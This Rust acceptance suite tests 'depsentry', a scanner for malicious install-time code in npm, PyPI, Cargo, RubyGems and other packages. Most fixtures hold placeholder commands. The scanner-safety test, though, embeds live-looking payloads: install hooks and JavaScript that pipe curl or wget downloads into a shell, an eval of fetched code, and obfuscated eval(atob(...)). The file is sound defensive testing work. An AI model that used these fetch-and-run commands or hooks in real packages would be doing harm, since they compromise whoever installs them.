//! Acceptance suite: one test per release criterion, each printing a
//! PASS line with its timing. Run with `cargo test --test acceptance`.

use depsentry_core::config::ScanConfig;
use depsentry_core::evasion::{classify_string, shannon_entropy, CharsetClass};
use depsentry_core::fixtures::{self, FixtureKind};
use depsentry_core::ingest::{self, FileContent, PackageSnapshot};
use depsentry_core::manifest::{self, DistributionKind, ManifestFacts, COMPOSER_HOOKS};
use depsentry_core::model::{applicability, Ecosystem, FindingLocation, TechniqueId};
use depsentry_core::report::{render, Format, Report};
use depsentry_core::scan::{self, scan_path};
use depsentry_core::trigger::{
    predict_executions, suppressible_by, Command, InstallContext, InstallOutcome, Phase,
};
use std::collections::BTreeMap;
use std::time::Instant;

fn snapshot_from(files: &[(&str, &str)]) -> PackageSnapshot {
    let mut map = BTreeMap::new();
    for (path, content) in files {
        map.insert(
            path.to_string(),
            FileContent::Loaded(content.as_bytes().to_vec()),
        );
    }
    let (eco, marker, _) = ingest::detect_ecosystem(map.keys().map(|s| s.as_str())).unwrap();
    let root_prefix = match marker.rsplit_once('/') {
        Some((dir, _)) => format!("{dir}/"),
        None => String::new(),
    };
    let mut snap = PackageSnapshot {
        coords: depsentry_core::model::PackageCoordinates::new(eco, "", ""),
        files: map,
        facts: ManifestFacts::default(),
        root_prefix,
        notes: Vec::new(),
        source_format: None,
    };
    scan::prepare_snapshot(&mut snap);
    snap
}

fn finding_ids(snapshot: &PackageSnapshot, config: &ScanConfig) -> Vec<TechniqueId> {
    scan::scan_snapshot(snapshot, config)
        .findings
        .iter()
        .map(|f| f.id)
        .collect()
}

/// Criterion 1: the applicability matrix reproduces all 49 comparison-table
/// cells exactly, in under a second.
#[test]
fn criterion_applicability_matrix() {
    let started = Instant::now();
    let truths: [(Ecosystem, &[TechniqueId]); 7] = [
        (
            Ecosystem::Npm,
            &[TechniqueId::I1, TechniqueId::R1, TechniqueId::R2, TechniqueId::R3],
        ),
        (
            Ecosystem::PyPI,
            &[TechniqueId::I2, TechniqueId::R1, TechniqueId::R2, TechniqueId::R3],
        ),
        (
            Ecosystem::Composer,
            &[TechniqueId::I1, TechniqueId::R2, TechniqueId::R3],
        ),
        (
            Ecosystem::RubyGems,
            &[TechniqueId::I3, TechniqueId::R1, TechniqueId::R2, TechniqueId::R3],
        ),
        (
            Ecosystem::Cargo,
            &[TechniqueId::I2, TechniqueId::R2, TechniqueId::R3],
        ),
        (
            Ecosystem::Go,
            &[TechniqueId::R1, TechniqueId::R2, TechniqueId::R3],
        ),
        (
            Ecosystem::Maven,
            &[TechniqueId::R2, TechniqueId::R3, TechniqueId::R4],
        ),
    ];
    let mut checked = 0;
    let mut true_cells = 0;
    for (eco, expected_true) in truths {
        for tech in TechniqueId::ACE {
            let expected = expected_true.contains(&tech);
            assert_eq!(applicability(eco, tech), expected, "cell ({eco}, {tech})");
            checked += 1;
            if expected {
                true_cells += 1;
            }
        }
    }
    assert_eq!(checked, 49);
    assert_eq!(true_cells, 24);
    let elapsed = started.elapsed();
    assert!(elapsed.as_secs() < 1, "matrix check took {elapsed:?}");
    println!(
        "ACCEPT applicability-matrix: PASS (49 cells, 24 true, {:?})",
        elapsed
    );
}

const LISTING1: &str = "{\n    \"name\": \"example\",\n    \"version\": \"1.0.0\",\n    \"scripts\": {\n        \"pre-install\": \"** COMMANDS **\"\n    }\n}\n";

const LISTING2: &str = "from setuptools import setup\n\n# Any Python code will be executed, for example:\nimport os; os.system(\"..COMMANDS..\")\nsetup(name='foo',version='1.0')\n";

const LISTING3: &str = "from distutils.core import setup\nfrom setuptools.command.install import install  # Required import\n\nclass ExampleClass(install):\n    def run(self):\n        install.run(self)\n        # Any Python code will be executed, for example:\n        import os; os.system(\"**COMMANDS**\")\n\nsetup(name='foo', cmdclass={'install': ExampleClass})\n";

const LISTING4_BUILD_RS: &str = "use std::process::Command;\n\nfn main() {\n    // Any arbitrary Rust code can be executed, for example:\n    let output = Command::new(\"sh\")\n        .arg(\"-c\")\n        .arg(\"**COMMANDS**\")\n        .output();\n    let _ = output;\n}\n";

const LISTING5A_GEMSPEC: &str = "Gem::Specification.new do |s|\n  s.name        = \"example\"\n  s.version     = \"1.0.0\"\n  s.summary     = \"example\"\n  s.extensions  = [\"extconf.rb\"]\nend\n";

const LISTING5B_EXTCONF: &str = "require \"mkmf\"\n\n# Any arbitrary Ruby code will be executed, e.g.:\nexec(\"**COMMANDS**\")\n\n# Needed to finish the extension without errors\ncreate_makefile(\"\")\n";

const LISTING7: &str = "import sys\nl1l_cringe_ = sys.version_info [0] == 2\nl1l1l_cringe_ = 2048\nl11_cringe_ = 7\ndef l111_cringe_ (l1ll_cringe_):\n    global l11l1_cringe_\n    l11l_cringe_ = ord (l1ll_cringe_ [-1])\n    ll_cringe_ = l1ll_cringe_ [:-1]\n    l1l1_cringe_ = l11l_cringe_\n    l1_cringe_ = ll_cringe_ [:l1l1_cringe_] + ll_cringe_ [l1l1_cringe_:]\n";

const LISTING8: &str = "import os, builtins\n\noriginal_print = print\ndef hacked_print(self):\n    original_print(self)\n    os.system(\"..COMMANDS..\")\nbuiltins.print = hacked_print\n";

/// Criterion 2: faithful transcriptions of the published proof-of-concept
/// listings yield exactly the expected finding ids at the documented
/// locations, in under five seconds total.
#[test]
fn criterion_exemplar_listing_fixtures() {
    let started = Instant::now();
    let config = ScanConfig::default();

    // Listing 1: npm install hook -> exactly {I1} at scripts.pre-install.
    let snap = snapshot_from(&[("package.json", LISTING1)]);
    let outcome = scan::scan_snapshot(&snap, &config);
    assert_eq!(
        outcome.findings.iter().map(|f| f.id).collect::<Vec<_>>(),
        vec![TechniqueId::I1]
    );
    assert_eq!(
        outcome.findings[0].location,
        FindingLocation::manifest_key("package.json", "scripts.pre-install")
    );
    assert_eq!(outcome.findings[0].evidence, "** COMMANDS **");

    // Listing 2: top-level statement in setup.py -> exactly {I2} at line 4.
    let snap = snapshot_from(&[("setup.py", LISTING2)]);
    let outcome = scan::scan_snapshot(&snap, &config);
    assert_eq!(
        outcome.findings.iter().map(|f| f.id).collect::<Vec<_>>(),
        vec![TechniqueId::I2]
    );
    match &outcome.findings[0].location {
        FindingLocation::Span(span) => assert_eq!(span.line_start, 4),
        other => panic!("expected span, got {other:?}"),
    }

    // Listing 3: cmdclass override -> exactly {I2} with the cmdclass
    // evidence on the setup line.
    let snap = snapshot_from(&[("setup.py", LISTING3)]);
    let outcome = scan::scan_snapshot(&snap, &config);
    assert_eq!(
        outcome.findings.iter().map(|f| f.id).collect::<Vec<_>>(),
        vec![TechniqueId::I2]
    );
    assert_eq!(
        outcome.findings[0].evidence,
        "cmdclass={'install': ExampleClass}"
    );
    match &outcome.findings[0].location {
        FindingLocation::Span(span) => assert_eq!(span.line_start, 10),
        other => panic!("expected span, got {other:?}"),
    }

    // Listing 4: cargo build script -> exactly {I2}, strong, at the
    // process-spawn call line.
    let snap = snapshot_from(&[
        ("Cargo.toml", "[package]\nname = \"example\"\nversion = \"1.0.0\"\n"),
        ("build.rs", LISTING4_BUILD_RS),
    ]);
    let outcome = scan::scan_snapshot(&snap, &config);
    assert_eq!(
        outcome.findings.iter().map(|f| f.id).collect::<Vec<_>>(),
        vec![TechniqueId::I2]
    );
    assert_eq!(
        outcome.findings[0].confidence,
        depsentry_core::model::Confidence::Strong
    );
    assert!(outcome.findings[0].evidence.contains("Command::new"));

    // Listing 5a+5b: gemspec extension -> exactly {I3} at the extensions
    // assignment (line 5).
    let snap = snapshot_from(&[
        ("example.gemspec", LISTING5A_GEMSPEC),
        ("extconf.rb", LISTING5B_EXTCONF),
    ]);
    let outcome = scan::scan_snapshot(&snap, &config);
    assert_eq!(
        outcome.findings.iter().map(|f| f.id).collect::<Vec<_>>(),
        vec![TechniqueId::I3]
    );
    assert_eq!(
        outcome.findings[0].evidence,
        "s.extensions  = [\"extconf.rb\"]"
    );
    match &outcome.findings[0].location {
        FindingLocation::Span(span) => assert_eq!(span.line_start, 5),
        other => panic!("expected span, got {other:?}"),
    }

    // Listing 7: obfuscated identifiers -> exactly {EV-ST-ID}.
    let snap = snapshot_from(&[("setup.py", LISTING7)]);
    assert_eq!(finding_ids(&snap, &config), vec![TechniqueId::EvStId]);

    // Listing 8: monkey patching -> exactly {EV-DY-MOD}.
    let snap = snapshot_from(&[
        (
            "setup.py",
            "from setuptools import setup\n\nsetup(name='patchpkg', version='0.2')\n",
        ),
        ("patchpkg/__init__.py", "from . import patch\n"),
        ("patchpkg/patch.py", LISTING8),
    ]);
    assert_eq!(finding_ids(&snap, &config), vec![TechniqueId::EvDyMod]);

    let elapsed = started.elapsed();
    assert!(elapsed.as_secs() < 5, "listing scans took {elapsed:?}");
    println!("ACCEPT exemplar-listing-fixtures: PASS (7 listings, {elapsed:?})");
}

/// Criterion 3: the six documented trigger predictions hold exactly, and
/// suppression soundness survives 1,000 randomized fact/context combos.
#[test]
fn criterion_trigger_truth_table() {
    let started = Instant::now();

    // 1. npm with a pre-install hook fires it...
    let mut npm_facts = ManifestFacts::default();
    npm_facts
        .install_hooks
        .insert("pre-install".into(), "** COMMANDS **".into());
    let ctx = InstallContext {
        command: Command::Install,
        ..Default::default()
    };
    let p = predict_executions(&npm_facts, Ecosystem::Npm, &ctx);
    assert_eq!(p.executions.len(), 1);
    assert_eq!(p.executions[0].phase, Phase::PreInstall);
    assert_eq!(p.executions[0].command_text, "** COMMANDS **");

    // 2. ...and --ignore-scripts silences it.
    let silenced = predict_executions(
        &npm_facts,
        Ecosystem::Npm,
        &InstallContext {
            command: Command::Install,
            ignore_scripts: true,
            ..Default::default()
        },
    );
    assert!(silenced.executions.is_empty());

    // 3. composer with all six hooks and a lockfile: update pair absent.
    let mut composer_facts = ManifestFacts {
        distribution_kind: DistributionKind::Source,
        ..Default::default()
    };
    for hook in COMPOSER_HOOKS {
        composer_facts
            .install_hooks
            .insert(hook.to_string(), format!("run {hook}"));
    }
    let p = predict_executions(
        &composer_facts,
        Ecosystem::Composer,
        &InstallContext {
            command: Command::Install,
            lockfile_present: true,
            ..Default::default()
        },
    );
    let hooks: Vec<&str> = p.executions.iter().map(|e| e.hook_or_file.as_str()).collect();
    assert_eq!(
        hooks,
        vec![
            "pre-install-cmd",
            "post-install-cmd",
            "pre-autoload-dump",
            "post-autoload-dump"
        ]
    );

    // 4. A wheel executes nothing at install.
    let wheel = ManifestFacts {
        distribution_kind: DistributionKind::Prebuilt,
        ..Default::default()
    };
    let p = predict_executions(
        &wheel,
        Ecosystem::PyPI,
        &InstallContext {
            command: Command::Install,
            ..Default::default()
        },
    );
    assert!(p.executions.is_empty());
    assert_eq!(p.outcome, InstallOutcome::Proceeds);

    // 5. Gem extensions also run under `gem build`.
    let gem = ManifestFacts {
        build_extensions: vec!["extconf.rb".into()],
        ..Default::default()
    };
    let p = predict_executions(
        &gem,
        Ecosystem::RubyGems,
        &InstallContext {
            command: Command::Build,
            ..Default::default()
        },
    );
    assert_eq!(p.executions.len(), 1);
    assert_eq!(p.executions[0].phase, Phase::BuildExtension);
    assert_eq!(p.executions[0].hook_or_file, "extconf.rb");

    // 6. Go executes nothing at install, whatever the facts say.
    let mut go_facts = ManifestFacts::default();
    go_facts
        .go_init_functions
        .push(depsentry_core::model::SourceSpan::new("main.go", 1, 1, 0, 9));
    let p = predict_executions(
        &go_facts,
        Ecosystem::Go,
        &InstallContext {
            command: Command::Install,
            ..Default::default()
        },
    );
    assert!(p.executions.is_empty());

    // Suppression soundness over 1,000 randomized combinations.
    let mut seed = 0x5eed_1234_u64;
    let mut next = || {
        seed = seed.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
        (seed >> 33) as u32
    };
    let npm_hooks = manifest::NPM_HOOKS;
    for case in 0..1000 {
        let eco = Ecosystem::ALL[(next() % 7) as usize];
        let mut facts = ManifestFacts {
            distribution_kind: if next() % 4 == 0 {
                DistributionKind::Prebuilt
            } else {
                DistributionKind::Source
            },
            ..Default::default()
        };
        match eco {
            Ecosystem::Npm => {
                let mask = next() % 128;
                for (i, hook) in npm_hooks.iter().enumerate() {
                    if mask & (1 << i) != 0 {
                        facts.install_hooks.insert(hook.to_string(), format!("cmd{i}"));
                    }
                }
            }
            Ecosystem::Composer => {
                let mask = next() % 64;
                for (i, hook) in COMPOSER_HOOKS.iter().enumerate() {
                    if mask & (1 << i) != 0 {
                        facts.install_hooks.insert(hook.to_string(), format!("cmd{i}"));
                    }
                }
            }
            Ecosystem::PyPI => {
                if next() % 2 == 0 {
                    facts.build_script = Some("setup.py".into());
                }
                if next() % 3 == 0 {
                    facts
                        .cmdclass_overrides
                        .push(("install".into(), "Klass".into()));
                }
            }
            Ecosystem::Cargo => {
                if next() % 2 == 0 {
                    facts.build_script = Some("build.rs".into());
                }
            }
            Ecosystem::RubyGems => {
                for i in 0..(next() % 3) {
                    facts.build_extensions.push(format!("ext{i}/extconf.rb"));
                }
            }
            _ => {}
        }
        let base_ctx = InstallContext {
            command: Command::Install,
            ignore_scripts: false,
            only_binary_all: false,
            no_autoloader: false,
            lockfile_present: next() % 2 == 0,
        };
        let base = predict_executions(&facts, eco, &base_ctx);
        for flag in ["ignore_scripts", "only_binary_all", "no_autoloader", "lockfile_present"] {
            let mut toggled = base_ctx;
            match flag {
                "ignore_scripts" => toggled.ignore_scripts = true,
                "only_binary_all" => toggled.only_binary_all = true,
                "no_autoloader" => toggled.no_autoloader = true,
                _ => toggled.lockfile_present = true,
            }
            if flag == "lockfile_present" && base_ctx.lockfile_present {
                continue; // no toggle happened
            }
            let after = predict_executions(&facts, eco, &toggled);
            let claimed: Vec<_> = base
                .executions
                .iter()
                .filter(|e| suppressible_by(eco, e).contains(&flag.to_string()))
                .collect();
            for e in &claimed {
                assert!(
                    !after.executions.contains(e),
                    "case {case}: {eco} {flag} failed to suppress {e:?}"
                );
            }
            for e in &base.executions {
                if !claimed.contains(&e) {
                    assert!(
                        after.executions.contains(e),
                        "case {case}: {eco} {flag} wrongly suppressed {e:?}"
                    );
                }
            }
        }
    }

    println!(
        "ACCEPT trigger-truth-table: PASS (6 examples + 1000 suppression cases, {:?})",
        started.elapsed()
    );
}

/// Criterion 4: the generated corpus has 33 packages; every technique
/// fixture scans to exactly its expected id, every control scans clean, and
/// the whole corpus scan stays under ten seconds.
#[test]
fn criterion_generated_corpus() {
    let started = Instant::now();
    let dir = tempfile::tempdir().unwrap();
    let manifest = fixtures::generate_fixtures(dir.path()).unwrap();
    assert_eq!(manifest.entries.len(), 33);

    let config = ScanConfig::default();
    for entry in &manifest.entries {
        let (snapshot, outcome) = scan_path(&dir.path().join(&entry.path), &config)
            .unwrap_or_else(|e| panic!("{}: {e}", entry.path));
        assert_eq!(snapshot.coords.ecosystem, entry.ecosystem, "{}", entry.path);
        let ids: Vec<TechniqueId> = outcome.findings.iter().map(|f| f.id).collect();
        match entry.kind {
            FixtureKind::Control => {
                assert!(
                    ids.is_empty(),
                    "{}: control produced findings {ids:?}",
                    entry.path
                );
            }
            FixtureKind::Technique | FixtureKind::Evasion => {
                assert_eq!(
                    ids, entry.expected,
                    "{}: expected exactly {:?}",
                    entry.path, entry.expected
                );
                if let Some(expected_location) = &entry.expected_location {
                    assert_eq!(
                        &outcome.findings[0].location.describe(),
                        expected_location,
                        "{}: finding location",
                        entry.path
                    );
                }
                // Soundness vs the trigger simulator: every install-time
                // finding corresponds to a predicted execution under the
                // plain install context.
                if entry
                    .expected
                    .iter()
                    .any(|id| id.is_install_time())
                {
                    let prediction = depsentry_core::trigger::predict_executions(
                        &snapshot.facts,
                        snapshot.coords.ecosystem,
                        &depsentry_core::trigger::InstallContext::default(),
                    );
                    assert!(
                        !prediction.executions.is_empty(),
                        "{}: install-time finding without a predicted execution",
                        entry.path
                    );
                }
            }
        }
    }
    let elapsed = started.elapsed();
    assert!(elapsed.as_secs() < 10, "corpus scan took {elapsed:?}");
    println!(
        "ACCEPT generated-corpus: PASS (24 technique + 7 control + 2 evasion fixtures, {elapsed:?})"
    );
}

/// Independent base64 encoder for the round-trip oracle.
fn oracle_base64(input: &[u8]) -> String {
    const TABLE: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in input.chunks(3) {
        let b = [chunk[0], *chunk.get(1).unwrap_or(&0), *chunk.get(2).unwrap_or(&0)];
        let n = ((b[0] as u32) << 16) | ((b[1] as u32) << 8) | b[2] as u32;
        out.push(TABLE[(n >> 18) as usize & 63] as char);
        out.push(TABLE[(n >> 12) as usize & 63] as char);
        out.push(if chunk.len() > 1 {
            TABLE[(n >> 6) as usize & 63] as char
        } else {
            '='
        });
        out.push(if chunk.len() > 2 {
            TABLE[n as usize & 63] as char
        } else {
            '='
        });
    }
    out
}

/// Brute-force Shannon entropy arranged differently from the
/// implementation: H = log2(n) - (1/n) * sum(c_i * log2(c_i)).
fn oracle_entropy(data: &[u8]) -> f64 {
    if data.is_empty() {
        return 0.0;
    }
    let mut counts: BTreeMap<u8, f64> = BTreeMap::new();
    for &b in data {
        *counts.entry(b).or_insert(0.0) += 1.0;
    }
    let n = data.len() as f64;
    let sum: f64 = counts.values().map(|&c| c * c.log2()).sum();
    n.log2() - sum / n
}

/// Criterion 5: entropy agrees with an independent computation within 1e-9
/// bits/byte, and the base64 round-trip property holds with zero failures,
/// over 10,000 seeded random strings.
#[test]
fn criterion_entropy_encoding_oracle() {
    use rand::{Rng, SeedableRng};
    let started = Instant::now();
    let mut rng = rand_chacha::ChaCha8Rng::seed_from_u64(0xD5E7);
    let thresholds = depsentry_core::config::Thresholds::default();
    let mut max_delta = 0.0f64;
    for i in 0..10_000 {
        let len = rng.gen_range(12..=120);
        let s: String = (0..len)
            .map(|_| rng.gen_range(b' '..=b'~') as char)
            .collect();

        // Entropy equivalence on the raw string.
        let classified = classify_string(&s, &thresholds);
        let delta = (classified.entropy_bits_per_byte - oracle_entropy(s.as_bytes())).abs();
        max_delta = max_delta.max(delta);
        assert!(
            delta < 1e-9,
            "case {i}: entropy delta {delta} for {s:?}"
        );
        // Implementation entropy function agrees too.
        let delta2 = (shannon_entropy(s.as_bytes()) - oracle_entropy(s.as_bytes())).abs();
        assert!(delta2 < 1e-9);

        // Round trip: encode with the oracle, classify, expect a readable
        // decode equal to the input.
        let encoded = oracle_base64(s.as_bytes());
        let rt = classify_string(&encoded, &thresholds);
        assert_eq!(
            rt.charset_class,
            CharsetClass::Base64Like,
            "case {i}: {encoded:?}"
        );
        assert_eq!(
            rt.decoded_preview.as_deref(),
            Some(s.as_str()),
            "case {i}: decode mismatch"
        );
    }
    println!(
        "ACCEPT entropy-encoding-oracle: PASS (10000 strings, max entropy delta {max_delta:.2e}, {:?})",
        started.elapsed()
    );
}

/// Criterion 6: serial and parallel scans of the corpus render to
/// byte-identical JSON (timestamp and duration masked), 20 repetitions.
#[test]
fn criterion_determinism_under_parallelism() {
    let started = Instant::now();
    let dir = tempfile::tempdir().unwrap();
    let manifest = fixtures::generate_fixtures(dir.path()).unwrap();

    let corpus_json = |parallel: bool| -> Vec<u8> {
        let config = ScanConfig {
            parallel,
            ..ScanConfig::default()
        };
        let mut blob = Vec::new();
        for entry in &manifest.entries {
            let (snapshot, outcome) =
                scan_path(&dir.path().join(&entry.path), &config).unwrap();
            let mut report = Report::new(snapshot.coords.clone())
                .with_findings(outcome.findings);
            report.notes = outcome.notes;
            report.stats = outcome.stats;
            // Mask the non-deterministic fields.
            report.timestamp = "1970-01-01T00:00:00Z".into();
            report.stats.duration_ms = 0;
            blob.extend(render(&report, Format::Json));
        }
        blob
    };

    let reference = corpus_json(false);
    for rep in 0..20 {
        let parallel = corpus_json(true);
        assert_eq!(
            reference, parallel,
            "rep {rep}: parallel JSON differs from serial"
        );
    }
    println!(
        "ACCEPT determinism-under-parallelism: PASS (20 repetitions, {:?})",
        started.elapsed()
    );
}

#[cfg(target_os = "linux")]
mod safety_harness {
    /// Socket file descriptors currently open in this process.
    pub fn socket_fds() -> usize {
        std::fs::read_dir("/proc/self/fd")
            .map(|entries| {
                entries
                    .filter_map(Result::ok)
                    .filter(|e| {
                        std::fs::read_link(e.path())
                            .map(|t| t.to_string_lossy().starts_with("socket:"))
                            .unwrap_or(false)
                    })
                    .count()
            })
            .unwrap_or(0)
    }

    /// Accumulated CPU time of waited-for children; any spawn-and-wait
    /// bumps this.
    pub fn children_rusage() -> (i64, i64) {
        unsafe {
            let mut ru: libc::rusage = std::mem::zeroed();
            libc::getrusage(libc::RUSAGE_CHILDREN, &mut ru);
            (
                ru.ru_utime.tv_sec * 1_000_000 + ru.ru_utime.tv_usec,
                ru.ru_maxrss,
            )
        }
    }

    /// Live processes whose parent is this process.
    pub fn live_children() -> usize {
        let me = std::process::id().to_string();
        std::fs::read_dir("/proc")
            .map(|entries| {
                entries
                    .filter_map(Result::ok)
                    .filter(|e| {
                        e.file_name()
                            .to_string_lossy()
                            .chars()
                            .all(|c| c.is_ascii_digit())
                    })
                    .filter(|e| {
                        std::fs::read_to_string(e.path().join("status"))
                            .ok()
                            .and_then(|s| {
                                s.lines()
                                    .find(|l| l.starts_with("PPid:"))
                                    .map(|l| l.trim_start_matches("PPid:").trim().to_string())
                            })
                            .is_some_and(|ppid| ppid == me)
                    })
                    .count()
            })
            .unwrap_or(0)
    }
}

/// Criterion 7: the scanner spawns no child processes and opens no network
/// sockets while scanning a package whose hooks look live.
#[cfg(target_os = "linux")]
#[test]
fn criterion_scanner_safety() {
    use safety_harness::*;
    let started = Instant::now();

    // A package whose payloads look live; the scanner must only read them.
    let snap = snapshot_from(&[
        (
            "package.json",
            r#"{"name":"live-looking","version":"9.9.9","main":"index.js","scripts":{"pre-install":"curl -s http://198.51.100.23/stage1.sh | sh","install":"wget -qO- http://198.51.100.23/s2 | bash","post-install":"node steal.js"}}"#,
        ),
        (
            "index.js",
            "const cp = require('child_process');\ncp.execSync('curl http://198.51.100.23/rc | sh');\nconst u = \"ht\"+\"tp\"+\"://1\"+\"98.\"+\"51\";\neval(atob('ZXZpbA=='));\nmodule.exports = {};\n",
        ),
        ("steal.js", "require('https').get('https://198.51.100.23/x', r => eval(r.body));\n"),
    ]);

    let sockets_before = socket_fds();
    let rusage_before = children_rusage();

    let config = ScanConfig::default();
    let outcome = scan::scan_snapshot(&snap, &config);
    // The scan must *detect* the live-looking content...
    assert!(outcome
        .findings
        .iter()
        .any(|f| f.id == TechniqueId::I1));
    assert!(!outcome.findings.is_empty());

    // ...while spawning nothing and opening nothing.
    let sockets_after = socket_fds();
    let rusage_after = children_rusage();
    assert_eq!(
        sockets_before, sockets_after,
        "scan changed the set of open sockets"
    );
    assert_eq!(
        rusage_before, rusage_after,
        "scan accumulated child-process rusage"
    );
    assert_eq!(live_children(), 0, "scan left live child processes");

    println!(
        "ACCEPT scanner-safety: PASS (no child processes, no sockets, {:?})",
        started.elapsed()
    );
}
